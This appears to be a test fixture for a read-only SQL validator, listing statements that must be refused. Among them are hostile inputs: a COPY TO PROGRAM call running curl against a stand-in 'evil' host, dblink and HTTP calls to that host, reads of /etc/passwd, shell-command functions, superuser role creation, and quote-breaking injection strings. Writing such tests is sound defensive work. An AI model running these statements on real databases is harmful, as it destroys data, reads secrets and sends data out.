-- Statements that must be refused in every dialect, with and without a catalogue. One a line.

-- Writes said plainly
INSERT INTO orders VALUES (1)
INSERT INTO orders SELECT * FROM orders
INSERT INTO orders (id) VALUES (1) RETURNING *
INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING
UPDATE orders SET amount = 0
UPDATE orders SET amount = 0 WHERE id IN (SELECT id FROM orders) RETURNING id
DELETE FROM orders
DELETE FROM orders USING customers WHERE orders.customer_id = customers.id
MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE
TRUNCATE orders
TRUNCATE TABLE orders CASCADE
REPLACE INTO orders VALUES (1)
UPSERT INTO orders VALUES (1)
INSERT OVERWRITE TABLE orders SELECT * FROM orders

-- Writes in WITH
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
WITH changed AS (UPDATE orders SET amount = 0 RETURNING id) SELECT count(*) FROM changed
WITH added AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT * FROM added
WITH a AS (SELECT 1) INSERT INTO orders SELECT * FROM a
WITH a AS (SELECT 1) UPDATE orders SET amount = 0
WITH a AS (SELECT 1) DELETE FROM orders
WITH a AS (SELECT 1) MERGE INTO orders USING a ON true WHEN MATCHED THEN DELETE
WITH a AS (WITH b AS (DELETE FROM orders RETURNING id) SELECT * FROM b) SELECT * FROM a
WITH RECURSIVE a AS (DELETE FROM orders RETURNING id) SELECT * FROM a
SELECT * FROM (WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x) AS y
SELECT (WITH x AS (DELETE FROM orders RETURNING 1 AS n) SELECT n FROM x)
SELECT * FROM (DELETE FROM orders RETURNING *) AS x
SELECT * FROM (INSERT INTO orders VALUES (1) RETURNING *) AS x
SELECT 1 WHERE EXISTS (WITH x AS (UPDATE orders SET id = 1 RETURNING 1) SELECT * FROM x)
SELECT 1 UNION ALL (WITH x AS (DELETE FROM orders RETURNING id) SELECT id FROM x)

-- Writes by SELECT
SELECT * INTO copied FROM orders
SELECT id INTO TEMP copied FROM orders
SELECT id INTO TEMPORARY TABLE copied FROM orders
SELECT id INTO UNLOGGED copied FROM orders
SELECT id INTO OUTFILE '/tmp/x' FROM orders
SELECT id FROM orders INTO OUTFILE '/tmp/x'
SELECT id FROM orders INTO DUMPFILE '/tmp/x'
SELECT id INTO @v FROM orders
SELECT 1 UNION SELECT 2 INTO copied
WITH a AS (SELECT 1 AS n) SELECT n INTO copied FROM a
SELECT * FROM (SELECT id INTO copied FROM orders) AS x
CREATE TABLE copied AS SELECT * FROM orders
CREATE TABLE copied AS TABLE orders
CREATE MATERIALIZED VIEW v AS SELECT 1
CREATE VIEW v AS SELECT 1
SELECT INTO copied

-- Locks
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders FOR SHARE
SELECT * FROM orders FOR KEY SHARE
SELECT * FROM orders FOR UPDATE OF orders NOWAIT
SELECT * FROM orders FOR UPDATE SKIP LOCKED
SELECT * FROM orders FOR UPDATE LIMIT 1
SELECT * FROM (SELECT * FROM orders FOR UPDATE) AS x
WITH x AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM x
SELECT (SELECT id FROM orders LIMIT 1 FOR UPDATE)
SELECT id FROM orders WHERE id IN (SELECT id FROM orders FOR SHARE)
(SELECT id FROM orders FOR UPDATE)
SELECT id FROM orders LOCK IN SHARE MODE
LOCK TABLE orders
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE

-- More than one statement
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2
SELECT 1;; DELETE FROM orders
; DELETE FROM orders
SELECT 1; COMMIT; DROP TABLE orders
SELECT 'a'; DELETE FROM orders; --'
SELECT $$a$$; DELETE FROM orders
SELECT 1/**/;/**/DROP/**/TABLE/**/orders
BEGIN; DELETE FROM orders; COMMIT

-- Definitions
DROP TABLE orders
DROP SCHEMA public CASCADE
DROP DATABASE shop
DROP FUNCTION f
DROP OWNED BY analyst
ALTER TABLE orders ADD COLUMN x int
ALTER TABLE orders RENAME TO x
ALTER TABLE orders OWNER TO analyst
ALTER SYSTEM SET wal_level = 'minimal'
ALTER ROLE analyst SUPERUSER
ALTER USER postgres PASSWORD 'x'
ALTER DATABASE shop SET search_path = evil
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
CREATE TABLE x (id int)
CREATE TEMP TABLE x (id int)
CREATE INDEX i ON orders (id)
CREATE UNIQUE INDEX CONCURRENTLY i ON orders (id)
CREATE SCHEMA x
CREATE DATABASE x
CREATE EXTENSION dblink
CREATE EXTENSION plpython3u
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ BEGIN END $$ LANGUAGE plpgsql
CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM orders'
CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION f()
CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM orders
CREATE ROLE evil SUPERUSER LOGIN
CREATE USER evil PASSWORD 'x'
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE FOREIGN TABLE f (x int) SERVER s
CREATE EXTERNAL TABLE f (x int) STORED AS CSV LOCATION '/etc/passwd'
CREATE SEQUENCE s
CREATE TYPE t AS (x int)
CREATE DOMAIN d AS int
CREATE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)
CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE POLICY p ON orders USING (true)
CREATE STATISTICS s ON id, amount FROM orders
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public

-- Rights, settings, sessions
GRANT ALL ON orders TO PUBLIC
GRANT pg_read_server_files TO analyst
REVOKE ALL ON orders FROM PUBLIC
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET search_path = evil
SET LOCAL statement_timeout = 0
SET statement_timeout TO 0
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET standard_conforming_strings = off
SET TIME ZONE 'UTC'
RESET ALL
RESET ROLE
SHOW ALL
SHOW data_directory
SHOW TABLES
SHOW CREATE TABLE orders
DISCARD ALL
DESCRIBE orders
USE other
ATTACH DATABASE 'x.db' AS x
DETACH DATABASE x
PRAGMA table_info(orders)
KILL 1

-- Transactions
BEGIN
BEGIN READ WRITE
START TRANSACTION
START TRANSACTION READ WRITE
COMMIT
COMMIT AND CHAIN
END
ROLLBACK
ROLLBACK TO SAVEPOINT a
ABORT
SAVEPOINT a
RELEASE SAVEPOINT a
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'

-- Statements that run others
EXPLAIN SELECT 1
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN ANALYZE SELECT 1
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders
EXPLAIN (ANALYZE true) UPDATE orders SET id = 1
PREPARE p AS DELETE FROM orders
EXECUTE p
EXECUTE IMMEDIATE 'DROP TABLE orders'
DEALLOCATE ALL
DO $$ BEGIN DELETE FROM orders; END $$
DO LANGUAGE plpgsql 'BEGIN NULL; END'
CALL p()
CALL system.sync_partition_metadata('a', 'b', 'FULL')
DECLARE c CURSOR FOR SELECT 1
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
FETCH ALL FROM c
MOVE NEXT FROM c
CLOSE c
LISTEN x
NOTIFY x
NOTIFY x, 'payload'
UNLISTEN *

-- Files and the world outside
COPY orders TO '/tmp/x'
COPY orders FROM '/etc/passwd'
COPY orders TO PROGRAM 'curl evil'
COPY (SELECT * FROM orders) TO '/tmp/x'
COPY (SELECT * FROM orders) TO STDOUT
COPY orders FROM 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/x'
COPY orders TO 'x.parquet' STORED AS PARQUET
UNLOAD ('SELECT * FROM orders') TO 's3://bucket/x' IAM_ROLE 'x'
UNLOAD (SELECT * FROM orders) TO 's3://bucket/x' WITH (format = 'PARQUET')
LOAD '/tmp/evil.so'
LOAD DATA INFILE '/etc/passwd' INTO TABLE orders
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
MSCK REPAIR TABLE orders
OPTIMIZE orders REWRITE DATA USING BIN_PACK
VACUUM
VACUUM FULL orders
ANALYZE orders
CLUSTER orders
REINDEX TABLE orders
CHECKPOINT
REFRESH MATERIALIZED VIEW v
REASSIGN OWNED BY a TO b
INSTALL httpfs
SELECT * FROM '/etc/passwd'
SELECT * FROM "/etc/passwd"
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_parquet('s3://bucket/x')
SELECT * FROM parquet_scan('/tmp/x')
SELECT * FROM glob('/etc/*')
SELECT * FROM external_query('x', 'SELECT 1')
SELECT * FROM TABLE(read_files('/etc'))
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)
SELECT dblink_exec('host=evil', 'DROP TABLE x')
SELECT dblink_connect('x', 'host=evil')
SELECT load_extension('x')
SELECT load_file('/etc/passwd')
SELECT readfile('/etc/passwd')
SELECT writefile('/tmp/x', 'y')
SELECT sys_eval('id')
SELECT xp_cmdshell('id')
SELECT http_get('http://evil')
SELECT lambda_invoke('x')
SELECT aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')
SELECT aws_lambda.invoke('x', '{}')
SELECT net.http_get('http://evil')
SELECT utl_http.request('http://evil')
USING EXTERNAL FUNCTION f(x INT) RETURNS INT LAMBDA 'x' SELECT f(1)

-- Functions that reach out, wait, lock or change something
SELECT pg_sleep(10)
SELECT pg_sleep_for('1 hour')
SELECT pg_sleep_until('tomorrow')
SELECT PG_SLEEP(10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT "pg_catalog"."pg_sleep"(10)
SELECT pg_catalog . pg_sleep ( 10 )
SELECT pg_sleep/**/(10)
SELECT sleep(10)
SELECT benchmark(1000000, md5('x'))
SELECT 1 FROM pg_sleep(10)
SELECT * FROM orders, pg_sleep(10)
SELECT * FROM orders JOIN LATERAL pg_sleep(10) ON true
SELECT * FROM ROWS FROM (pg_sleep(10)) AS x
SELECT * FROM orders WHERE pg_sleep(10) IS NULL
SELECT * FROM orders ORDER BY pg_sleep(10)
SELECT count(*) FROM orders GROUP BY pg_sleep(10)
SELECT count(*) FROM orders HAVING pg_sleep(10) IS NULL
SELECT count(*) FILTER (WHERE pg_sleep(10) IS NULL) FROM orders
SELECT sum(1) OVER (ORDER BY pg_sleep(10)) FROM orders
SELECT sum(1) OVER (PARTITION BY pg_sleep(10)) FROM orders
SELECT sum(1) OVER w FROM orders WINDOW w AS (ORDER BY pg_sleep(10))
SELECT array_agg(1 ORDER BY pg_sleep(10)) FROM orders
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(10)) FROM orders
SELECT 1 LIMIT pg_sleep(10)
SELECT 1 OFFSET pg_sleep(10)
SELECT 1 FETCH FIRST (SELECT pg_sleep(10)) ROWS ONLY
SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(10))
VALUES (pg_sleep(10))
SELECT * FROM (VALUES (pg_sleep(10))) AS x
SELECT CASE WHEN pg_sleep(10) IS NULL THEN 1 END
SELECT CASE pg_sleep(10) WHEN NULL THEN 1 END
SELECT CASE WHEN false THEN 1 ELSE pg_sleep(10) END
SELECT coalesce(NULL, pg_sleep(10))
SELECT ARRAY[pg_sleep(10)]
SELECT ARRAY(SELECT pg_sleep(10))
SELECT (ARRAY[1,2])[pg_sleep(10)]
SELECT ROW(pg_sleep(10))
SELECT (1, pg_sleep(10)) = (1, 2)
SELECT 1 IN (pg_sleep(10))
SELECT 1 BETWEEN 0 AND pg_sleep(10)
SELECT 'a' LIKE pg_sleep(10)
SELECT 1 = ANY (SELECT pg_sleep(10))
SELECT EXISTS (SELECT pg_sleep(10))
SELECT CAST(pg_sleep(10) AS text)
SELECT pg_sleep(10)::text
SELECT extract(year FROM pg_sleep(10))
SELECT substring('a' FROM pg_sleep(10))
SELECT trim(pg_sleep(10) FROM 'a')
SELECT position(pg_sleep(10) IN 'a')
SELECT overlay('a' PLACING pg_sleep(10) FROM 1)
SELECT now() AT TIME ZONE pg_sleep(10)
SELECT INTERVAL pg_sleep(10) DAY
SELECT NOT pg_sleep(10) IS NULL
SELECT - pg_sleep(10)
SELECT DISTINCT ON (pg_sleep(10)) 1
SELECT 1 UNION SELECT pg_sleep(10)
SELECT 1 EXCEPT SELECT pg_sleep(10)
SELECT 1 INTERSECT SELECT pg_sleep(10)
SELECT 1 UNION SELECT 2 ORDER BY pg_sleep(10)
WITH x AS (SELECT pg_sleep(10)) SELECT 1
WITH x AS MATERIALIZED (SELECT pg_sleep(10)) SELECT 1
SELECT make_interval(days => pg_sleep(10))
SELECT (SELECT (SELECT (SELECT pg_sleep(10))))
SELECT {fn pg_sleep(10)}
SELECT pg_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_unlock_all()
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_promote()
SELECT pg_create_restore_point('x')
SELECT pg_export_snapshot()
SELECT pg_notify('x', 'y')
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_create_logical_replication_slot('x', 'pgoutput')
SELECT pg_drop_replication_slot('x')
SELECT pg_stat_reset()
SELECT pg_stat_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT pg_ls_logdir()
SELECT pg_ls_waldir()
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_file_write('/tmp/x', 'y', false)
SELECT pg_current_logfile()
SELECT pg_relation_filepath('orders')
SELECT pg_relation_size('orders')
SELECT pg_database_size('shop')
SELECT pg_backend_pid()
SELECT pg_get_viewdef('v')
SELECT pg_get_functiondef(1)
SELECT pg_typeof(1)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_create(0)
SELECT lo_creat(-1)
SELECT lo_unlink(1)
SELECT lo_put(1, 0, 'x')
SELECT lo_get(1)
SELECT lo_from_bytea(0, 'x')
SELECT lowrite(1, 'x')
SELECT loread(1, 1)
SELECT set_config('statement_timeout', '0', false)
SELECT current_setting('data_directory')
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s')
SELECT lastval()
SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')
SELECT table_to_xml('orders', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT xmlparse(DOCUMENT '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')
SELECT xpath('/x', '<x/>')
SELECT ts_stat('SELECT 1')
SELECT * FROM ts_stat('SELECT pg_sleep(10)')
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
SELECT crosstab('SELECT 1')
SELECT * FROM connectby('orders', 'id', 'id', '1', 0)
SELECT has_table_privilege('orders', 'SELECT')
SELECT to_regclass('pg_class')
SELECT inet_server_addr()
SELECT inet_client_addr()
SELECT version()
SELECT current_user
SELECT session_user
SELECT user
SELECT current_role
SELECT current_catalog
SELECT current_schema
SELECT current_schema()
SELECT current_database()
SELECT current_schemas(true)
SELECT system_user
SELECT txid_current()
SELECT random()
SELECT setseed(0.5)
SELECT rand()
SELECT gen_random_uuid()
SELECT uuid_generate_v4()
SELECT uuid()
SELECT clock_timestamp()
SELECT timeofday()
SELECT obj_description(1)
SELECT col_description(1, 1)
SELECT format_type(1, 1)
SELECT brin_summarize_new_values('i')
SELECT gin_clean_pending_list('i')
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT suppress_redundant_updates_trigger()
SELECT int4_accum(1)
SELECT my_function(1)
SELECT public.my_function(1)
SELECT public.count(1)
SELECT public.upper('a')
SELECT eval('1')
SELECT exec('1')

-- System catalogues
SELECT * FROM pg_class
SELECT * FROM pg_catalog.pg_class
SELECT * FROM "pg_catalog"."pg_class"
SELECT * FROM PG_CATALOG.PG_CLASS
SELECT * FROM pg_shadow
SELECT * FROM pg_authid
SELECT * FROM pg_user
SELECT * FROM pg_roles
SELECT * FROM pg_settings
SELECT * FROM pg_stat_activity
SELECT * FROM pg_stats
SELECT * FROM pg_tables
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_largeobject
SELECT * FROM pg_toast.pg_toast_1234
SELECT * FROM pg_temp.x
SELECT * FROM information_schema.tables
SELECT * FROM INFORMATION_SCHEMA.COLUMNS
SELECT * FROM "information_schema".tables
SELECT * FROM shop.information_schema.tables
SELECT 1 FROM orders WHERE EXISTS (SELECT 1 FROM pg_class)
SELECT (SELECT count(*) FROM pg_user)
SELECT * FROM orders NATURAL JOIN pg_class
SELECT * FROM orders, LATERAL (SELECT * FROM pg_class) AS x
WITH x AS (SELECT * FROM pg_class) SELECT 1
WITH x AS (TABLE pg_class) SELECT * FROM x
TABLE pg_class
TABLE orders
SELECT 1 UNION SELECT 1 FROM pg_class
SELECT * FROM svv_tables
SELECT * FROM stl_query
SELECT * FROM stv_sessions
SELECT * FROM svl_qlog
SELECT * FROM "orders$files"
SELECT * FROM "orders$partitions"
SELECT * FROM "orders$snapshots"
SELECT * FROM system.runtime.queries
SELECT * FROM sys.objects
SELECT * FROM duckdb_settings()

-- Types and casts that look things up
SELECT 'pg_class'::regclass
SELECT CAST('pg_sleep' AS regproc)
SELECT 'pg_sleep(float8)'::regprocedure
SELECT 'postgres'::regrole
SELECT 'public'::regnamespace
SELECT 'int'::regtype
SELECT '+'::regoper
SELECT 'english'::regconfig
SELECT regclass 'pg_class'
SELECT 1::oid
SELECT '<x/>'::xml
SELECT CAST('<x/>' AS xml)
SELECT '1'::my_type
SELECT '1'::public.my_type
SELECT CAST('x' AS pg_catalog.regclass)
SELECT ARRAY['pg_class']::regclass[]
SELECT '1'::pg_lsn
SELECT 'x'::aclitem

-- Operators of others
SELECT 1 OPERATOR(pg_catalog.+) 2
SELECT 1 OPERATOR(public.===) 2
SELECT 1 === 2
SELECT 1 <-> 2
SELECT 1 := 2
SELECT @x := 1
SELECT @@version
SELECT @@datadir
SELECT 1 MEMBER OF ('[1]')

-- Parameters
SELECT $1
SELECT ?
SELECT :name
SELECT * FROM orders WHERE id = $1
SELECT * FROM orders LIMIT $1

-- Quotes that try to get out
SELECT '\'' || pg_sleep(10) || ''
SELECT 'a' 'b' ; DROP TABLE orders
SELECT 'x''; DROP TABLE orders; --
SELECT $a$x$a$ || pg_sleep(10)
SELECT U&'\0027' || pg_sleep(10)
SELECT "a""; DROP TABLE orders; --" FROM orders; DELETE FROM orders
SELECT `x` FROM orders; DROP TABLE orders
SELECT 1 /* /* */ */ FROM pg_sleep(10)
SELECT 1 /*! FROM pg_user */ ; DROP TABLE orders
SELECT /*+ hint */ pg_sleep(10)
SELECT q'[a]' || pg_sleep(10)

-- Never-ending and endless
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION SELECT n + 1 FROM t) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n FROM t) SELECT * FROM t LIMIT 10
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n > 0) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n - 1 FROM t WHERE n < 10) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 0 FROM t WHERE n < 10) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 10 OR true) SELECT * FROM t
WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 1e300) SELECT * FROM t
WITH RECURSIVE t AS (SELECT n FROM t) SELECT * FROM t
WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a
SELECT * FROM generate_series(1, 1000000000000)
SELECT * FROM generate_series(1, 10, 0)
SELECT generate_series(1, 1000000000)
SELECT repeat('x', 1000000000)
SELECT lpad('x', 1000000000)
SELECT rpad('x', 1000000000, 'y')
SELECT repeat('x', length('y') * 1000000000)

-- Whole rows and system columns
SELECT orders FROM orders
SELECT o FROM orders AS o
SELECT row_to_json(o) FROM orders AS o
SELECT to_json(orders) FROM orders
SELECT (orders).id FROM orders
SELECT (o).* FROM orders AS o
SELECT (SELECT o FROM orders AS o)
SELECT count(o) FROM orders AS o
SELECT o::text FROM orders AS o
SELECT array_agg(o) FROM orders AS o
SELECT to_json(o.*) FROM orders AS o
SELECT ROW(o.*) FROM orders AS o
SELECT ctid FROM orders
SELECT xmin FROM orders
SELECT orders.tableoid FROM orders
SELECT o.pg_sleep FROM orders AS o

-- Syntax of other engines
SELECT * FROM orders CONNECT BY PRIOR id = customer_id
SELECT TOP 5 * FROM orders FOR XML AUTO
SELECT * FROM orders FOR JSON PATH
SELECT * FROM orders FORMAT JSON
SELECT * FROM orders SETTINGS max_threads = 1
SELECT * FROM orders PREWHERE id = 1
SELECT * FROM orders |> DROP id
FROM orders
FROM orders SELECT id
SELECT * FROM orders LATERAL VIEW explode(x) t AS y
SELECT * FROM orders MATCH_RECOGNIZE (PATTERN (a) DEFINE a AS true)
SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS a int)
SELECT * FROM JSON_TABLE('[]', '$[*]' COLUMNS (a int PATH '$'))
SELECT * FROM orders FOR SYSTEM_TIME AS OF '2020-01-01'
SELECT * FROM orders WITH (NOLOCK)
SELECT * FROM orders USE INDEX (i)
SELECT * FROM orders CROSS APPLY pg_sleep(10)
SELECT SQL_CALC_FOUND_ROWS * FROM orders
SELECT HIGH_PRIORITY * FROM orders
SELECT * FROM orders PARTITION (p0)
SELECT * FROM orders ARRAY JOIN x
SELECT MATCH (id) AGAINST ('x') FROM orders
SELECT

-- Every volatile function of PostgreSQL 15, by name
SELECT RI_FKey_cascade_del()
SELECT RI_FKey_cascade_upd()
SELECT RI_FKey_check_ins()
SELECT RI_FKey_check_upd()
SELECT RI_FKey_noaction_del()
SELECT RI_FKey_noaction_upd()
SELECT RI_FKey_restrict_del()
SELECT RI_FKey_restrict_upd()
SELECT RI_FKey_setdefault_del()
SELECT RI_FKey_setdefault_upd()
SELECT RI_FKey_setnull_del()
SELECT RI_FKey_setnull_upd()
SELECT amvalidate()
SELECT bernoulli()
SELECT binary_upgrade_create_empty_extension()
SELECT binary_upgrade_set_missing_value()
SELECT binary_upgrade_set_next_array_pg_type_oid()
SELECT binary_upgrade_set_next_heap_pg_class_oid()
SELECT binary_upgrade_set_next_heap_relfilenode()
SELECT binary_upgrade_set_next_index_pg_class_oid()
SELECT binary_upgrade_set_next_index_relfilenode()
SELECT binary_upgrade_set_next_multirange_array_pg_type_oid()
SELECT binary_upgrade_set_next_multirange_pg_type_oid()
SELECT binary_upgrade_set_next_pg_authid_oid()
SELECT binary_upgrade_set_next_pg_enum_oid()
SELECT binary_upgrade_set_next_pg_tablespace_oid()
SELECT binary_upgrade_set_next_pg_type_oid()
SELECT binary_upgrade_set_next_toast_pg_class_oid()
SELECT binary_upgrade_set_next_toast_relfilenode()
SELECT binary_upgrade_set_record_init_privs()
SELECT brin_desummarize_range()
SELECT brin_summarize_new_values()
SELECT brin_summarize_range()
SELECT brinhandler()
SELECT bthandler()
SELECT current_query()
SELECT currtid2()
SELECT currval()
SELECT cursor_to_xml()
SELECT cursor_to_xmlschema()
SELECT dsnowball_init()
SELECT dsnowball_lexize()
SELECT gin_clean_pending_list()
SELECT ginhandler()
SELECT gisthandler()
SELECT hashhandler()
SELECT heap_tableam_handler()
SELECT lo_close()
SELECT lo_creat()
SELECT lo_create()
SELECT lo_export()
SELECT lo_from_bytea()
SELECT lo_get()
SELECT lo_import()
SELECT lo_lseek()
SELECT lo_lseek64()
SELECT lo_open()
SELECT lo_put()
SELECT lo_tell()
SELECT lo_tell64()
SELECT lo_truncate()
SELECT lo_truncate64()
SELECT lo_unlink()
SELECT loread()
SELECT lowrite()
SELECT nextval()
SELECT pg_advisory_lock()
SELECT pg_advisory_lock_shared()
SELECT pg_advisory_unlock()
SELECT pg_advisory_unlock_shared()
SELECT pg_advisory_xact_lock()
SELECT pg_advisory_xact_lock_shared()
SELECT pg_backup_start()
SELECT pg_backup_stop()
SELECT pg_blocking_pids()
SELECT pg_cancel_backend()
SELECT pg_collation_actual_version()
SELECT pg_control_checkpoint()
SELECT pg_control_init()
SELECT pg_control_recovery()
SELECT pg_control_system()
SELECT pg_copy_logical_replication_slot()
SELECT pg_copy_physical_replication_slot()
SELECT pg_create_logical_replication_slot()
SELECT pg_create_physical_replication_slot()
SELECT pg_create_restore_point()
SELECT pg_current_wal_flush_lsn()
SELECT pg_current_wal_insert_lsn()
SELECT pg_current_wal_lsn()
SELECT pg_database_collation_actual_version()
SELECT pg_database_size()
SELECT pg_drop_replication_slot()
SELECT pg_extension_config_dump()
SELECT pg_get_backend_memory_contexts()
SELECT pg_get_multixact_members()
SELECT pg_get_shmem_allocations()
SELECT pg_get_wal_replay_pause_state()
SELECT pg_get_wal_resource_managers()
SELECT pg_hba_file_rules()
SELECT pg_ident_file_mappings()
SELECT pg_import_system_collations()
SELECT pg_indexes_size()
SELECT pg_is_in_recovery()
SELECT pg_is_wal_replay_paused()
SELECT pg_isolation_test_session_is_blocked()
SELECT pg_jit_available()
SELECT pg_last_committed_xact()
SELECT pg_last_wal_receive_lsn()
SELECT pg_last_wal_replay_lsn()
SELECT pg_last_xact_replay_timestamp()
SELECT pg_lock_status()
SELECT pg_log_backend_memory_contexts()
SELECT pg_logical_emit_message()
SELECT pg_logical_slot_get_binary_changes()
SELECT pg_logical_slot_get_changes()
SELECT pg_logical_slot_peek_binary_changes()
SELECT pg_logical_slot_peek_changes()
SELECT pg_ls_archive_statusdir()
SELECT pg_ls_dir()
SELECT pg_ls_logicalmapdir()
SELECT pg_ls_logicalsnapdir()
SELECT pg_ls_replslotdir()
SELECT pg_ls_tmpdir()
SELECT pg_nextoid()
SELECT pg_notification_queue_usage()
SELECT pg_notify()
SELECT pg_partition_ancestors()
SELECT pg_partition_tree()
SELECT pg_prepared_xact()
SELECT pg_read_binary_file()
SELECT pg_read_file()
SELECT pg_read_file_old()
SELECT pg_relation_size()
SELECT pg_replication_origin_advance()
SELECT pg_replication_origin_create()
SELECT pg_replication_origin_drop()
SELECT pg_replication_origin_progress()
SELECT pg_replication_origin_session_is_setup()
SELECT pg_replication_origin_session_progress()
SELECT pg_replication_origin_session_reset()
SELECT pg_replication_origin_session_setup()
SELECT pg_replication_origin_xact_reset()
SELECT pg_replication_origin_xact_setup()
SELECT pg_replication_slot_advance()
SELECT pg_rotate_logfile_old()
SELECT pg_safe_snapshot_blocking_pids()
SELECT pg_sequence_last_value()
SELECT pg_show_all_file_settings()
SELECT pg_show_replication_origin_status()
SELECT pg_sleep()
SELECT pg_sleep_for()
SELECT pg_sleep_until()
SELECT pg_stat_clear_snapshot()
SELECT pg_stat_file()
SELECT pg_stat_force_next_flush()
SELECT pg_stat_get_recovery_prefetch()
SELECT pg_stat_get_xact_blocks_fetched()
SELECT pg_stat_get_xact_blocks_hit()
SELECT pg_stat_get_xact_function_calls()
SELECT pg_stat_get_xact_function_self_time()
SELECT pg_stat_get_xact_function_total_time()
SELECT pg_stat_get_xact_numscans()
SELECT pg_stat_get_xact_tuples_deleted()
SELECT pg_stat_get_xact_tuples_fetched()
SELECT pg_stat_get_xact_tuples_hot_updated()
SELECT pg_stat_get_xact_tuples_inserted()
SELECT pg_stat_get_xact_tuples_returned()
SELECT pg_stat_get_xact_tuples_updated()
SELECT pg_stat_have_stats()
SELECT pg_stat_reset_replication_slot()
SELECT pg_stat_reset_shared()
SELECT pg_stat_reset_single_function_counters()
SELECT pg_stat_reset_single_table_counters()
SELECT pg_stat_reset_slru()
SELECT pg_stat_reset_subscription_stats()
SELECT pg_stop_making_pinned_objects()
SELECT pg_table_size()
SELECT pg_tablespace_size()
SELECT pg_terminate_backend()
SELECT pg_total_relation_size()
SELECT pg_try_advisory_lock()
SELECT pg_try_advisory_lock_shared()
SELECT pg_try_advisory_xact_lock()
SELECT pg_try_advisory_xact_lock_shared()
SELECT pg_wal_replay_pause()
SELECT pg_wal_replay_resume()
SELECT pg_xact_commit_timestamp()
SELECT pg_xact_commit_timestamp_origin()
SELECT pg_xact_status()
SELECT plpgsql_call_handler()
SELECT plpgsql_inline_handler()
SELECT plpgsql_validator()
SELECT query_to_xml()
SELECT query_to_xml_and_xmlschema()
SELECT query_to_xmlschema()
SELECT set_config()
SELECT setseed()
SELECT setval()
SELECT spghandler()
SELECT system()
SELECT ts_rewrite()
SELECT ts_stat()
SELECT tsvector_update_trigger()
SELECT tsvector_update_trigger_column()
SELECT txid_status()
SELECT unique_key_recheck()
